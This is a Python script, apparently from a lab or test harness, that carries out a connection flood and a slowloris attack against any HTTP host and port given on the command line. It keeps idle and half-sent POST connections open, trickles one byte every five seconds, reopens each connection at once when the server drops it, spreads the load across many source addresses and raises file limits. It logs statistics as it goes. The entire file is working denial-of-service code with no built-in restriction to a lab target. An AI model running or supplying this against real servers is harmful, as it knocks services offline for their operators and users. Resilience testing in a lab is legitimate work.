#!/usr/bin/env python3
"""A connection flood and a slowloris against one HTTP server, held until stopped (SIGTERM).

    lab/flood.py HOST PORT PATH IDLE TRICKLE STATUS_FILE [SOURCES]

Keeps IDLE connections open that send nothing, and TRICKLE connections that send the head of a
request (`POST PATH HTTP/1.1`, one header) and then one byte every 5 s, never finishing it. Each
connection the server closes is opened again at once, as an attacker would. Once a second it
rewrites STATUS_FILE with one line of JSON: how many of each are open now, the most held at once,
how many were opened in all, and how many the server closed or refused. SOURCES: local addresses
to connect from, comma-separated, taken in turn (default: the system's choice), so that one
namespace floods from many client addresses.
"""
import asyncio
import json
import os
import resource
import signal
import sys


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    idle, trickle, status_file = int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    sources = sys.argv[7].split(",") if len(sys.argv) > 7 and sys.argv[7] else [None]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = idle + trickle + 256
    if soft != resource.RLIM_INFINITY and soft < need:
        if hard != resource.RLIM_INFINITY and hard < need:
            sys.exit(f"flood: {idle + trickle} connections need {need} open files; the limit here is {hard}")
        resource.setrlimit(resource.RLIMIT_NOFILE, (need, hard))
    asyncio.run(flood(host, port, path, idle, trickle, status_file, sources))


async def flood(host, port, path, idle, trickle, status_file, sources):
    stats = {"idle": 0, "trickle": 0, "most_idle": 0, "most_trickle": 0, "most_both": 0,
             "opened": 0, "closed_by_server": 0, "refused": 0}
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    # At most this many connection attempts at once: a burst no larger than a listen backlog.
    opening = asyncio.Semaphore(500)
    head = f"POST {path} HTTP/1.1\r\nHost: flood\r\n".encode()

    async def connect(source):
        async with opening:
            local = (source, 0) if source else None
            return await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=local), 10)

    async def hold(kind, source):
        while not stop.is_set():
            try:
                reader, writer = await connect(source)
            except (OSError, asyncio.TimeoutError):
                stats["refused"] += 1
                await asyncio.sleep(0.5)  # pacing before trying again, as a real flood would
                continue
            stats[kind] += 1
            stats["opened"] += 1
            stats["most_" + kind] = max(stats["most_" + kind], stats[kind])
            stats["most_both"] = max(stats["most_both"], stats["idle"] + stats["trickle"])
            try:
                if kind == "idle":
                    await reader.read(1)  # nothing is sent: whatever comes back is the server hanging up
                else:
                    writer.write(head)
                    await writer.drain()
                    while True:
                        try:
                            await asyncio.wait_for(reader.read(1), 5)
                            break  # the server answered or hung up
                        except asyncio.TimeoutError:
                            writer.write(b"X")
                            await writer.drain()
            except OSError:
                pass
            finally:
                stats[kind] -= 1
                stats["closed_by_server"] += 1
                writer.close()

    async def report():
        while not stop.is_set():
            tmp = status_file + ".tmp"
            with open(tmp, "w") as f:
                f.write(json.dumps(stats) + "\n")
            os.replace(tmp, status_file)
            try:
                await asyncio.wait_for(stop.wait(), 1)
            except asyncio.TimeoutError:
                pass

    tasks = [asyncio.create_task(hold("idle", sources[i % len(sources)])) for i in range(idle)]
    tasks += [asyncio.create_task(hold("trickle", sources[i % len(sources)])) for i in range(trickle)]
    await report()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    main()
